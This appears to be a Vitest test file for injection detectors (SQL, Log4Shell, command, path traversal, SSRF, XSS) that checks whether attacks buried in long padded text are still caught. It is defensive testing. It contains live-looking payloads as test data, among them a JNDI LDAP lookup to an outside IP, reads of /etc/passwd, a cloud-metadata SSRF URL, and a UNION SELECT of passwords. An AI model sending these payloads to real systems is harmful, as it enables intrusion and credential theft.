import { describe, expect, it } from 'vitest';
import { commandInjectionVerdict } from '#sidecar/threats/text/command-injection-verdict.ts';
import { log4shellVerdict } from '#sidecar/threats/text/log4shell-verdict.ts';
import { pathTraversalVerdict } from '#sidecar/threats/text/path-traversal-verdict.ts';
import { sqlInjectionVerdict } from '#sidecar/threats/text/sql-injection-verdict.ts';
import { ssrfVerdict } from '#sidecar/threats/text/ssrf-verdict.ts';
import { inWindows } from '#sidecar/threats/text/text-windows.ts';
import { xssVerdict } from '#sidecar/threats/text/xss-verdict.ts';

describe('inWindows', () => {
  it('judges a short text once, from its start', () => {
    const seen: [string, boolean][] = [];
    inWindows('abc', 8, (text, atStart) => void seen.push([text, atStart]));
    expect(seen).toEqual([['abc', true]]);
  });

  it('covers a long text with windows overlapping by a quarter, and stops at the first verdict', () => {
    const seen: [number, boolean][] = [];
    const text = Array.from({ length: 40 }, (_, i) => String.fromCharCode(65 + (i % 26))).join('');
    inWindows(text, 16, (window, atStart) => void seen.push([text.indexOf(window), atStart]));
    expect(seen).toEqual([
      [0, true],
      [12, false],
      [24, false],
    ]);
    expect(inWindows(text, 16, (window) => (window.includes('Z') ? 'found' : undefined))).toBe('found');
  });

  it('finds any attack up to a quarter window long wherever it sits', () => {
    const attack = 'XYZ';
    for (let at = 0; at < 60; at++) {
      const text = `${'.'.repeat(at)}${attack}${'.'.repeat(60 - at)}`;
      expect(inWindows(text, 16, (window) => (window.includes(attack) ? 'found' : undefined))).toBe('found');
    }
  });
});

describe('each verdict reads past its first window (ADR 30)', () => {
  // Padding on both sides: the attack is neither in the first window (4 or 8 KiB) nor at the end.
  const pad = (attack: string, filler = 'a') => `${filler.repeat(9000)}${attack}${filler.repeat(9000)}`;
  it.each([
    ['sql injection', sqlInjectionVerdict, " 1' OR '1'='1' -- "],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
    ['log4shell', log4shellVerdict, ' ${jndi:ldap://198.51.100.7/a} '],
    ['command injection', commandInjectionVerdict, ' ; cat /etc/passwd ; '],
    ['path traversal', pathTraversalVerdict, ' ../../../../etc/passwd '],
    ['ssrf', ssrfVerdict, ' http://169.254.169.254/latest/meta-data/ '],
    ['xss', xssVerdict, ' <script>alert(1)</script> '],
  ] as const)('%s', (_name, verdict, attack) => {
    expect(verdict(attack)).toBeDefined();
    expect(verdict(pad(attack, ' '))).toBeDefined();
  });

  it('names no command at the cut a later window starts with: long prose stays data', () => {
    const prose = 'the cat sat on the mat and then ls went home while ping waited by the door. '.repeat(120);
    expect(prose.length).toBeGreaterThan(8192);
    expect(commandInjectionVerdict(prose)).toBeUndefined();
    expect(sqlInjectionVerdict(prose)).toBeUndefined();
  });
});

describe('each verdict reads every item of a window, however many harmless ones come first (ADR 30)', () => {
  // Each verdict used to stop counting inside a window: 64 tags, 64 shell segments, 512 SQL tokens, 8 addresses.
  it.each([
    ['xss after 70 tags', xssVerdict, '<b>x</b>'.repeat(70), '<script>alert(1)</script>'],
    ['command injection after 70 segments', commandInjectionVerdict, 'a;'.repeat(70), ' cat /etc/passwd'],
    [
      'sql injection after 600 tokens',
      sqlInjectionVerdict,
      'a '.repeat(600),
      '1 UNION SELECT password FROM users--',
    ],
    ['ssrf after 20 addresses', ssrfVerdict, '10.0.0.1 '.repeat(20), 'http://169.254.169.254/latest/'],
  ] as const)('%s', (_name, verdict, decoys, attack) => {
    expect(verdict(attack)).toBeDefined();
    expect(decoys.length + attack.length).toBeLessThan(2048); // inside one window of every verdict
    expect(verdict(`${decoys}${attack}`)).toBeDefined();
  });

  it('finds nothing in as many harmless items: tags, sentences, SQL-ish words, numbers', () => {
    const prose = 'Fish; chips, and a cat (grey) sat by the door & slept; then we left. '.repeat(25);
    expect(commandInjectionVerdict(prose)).toBeUndefined();
    expect(sqlInjectionVerdict(`${'select a seat or order by date, '.repeat(60)}`)).toBeUndefined();
    expect(xssVerdict('<b>bold</b> <i>it</i> <a href="/x">link</a> '.repeat(40))).toBeUndefined();
  });
});
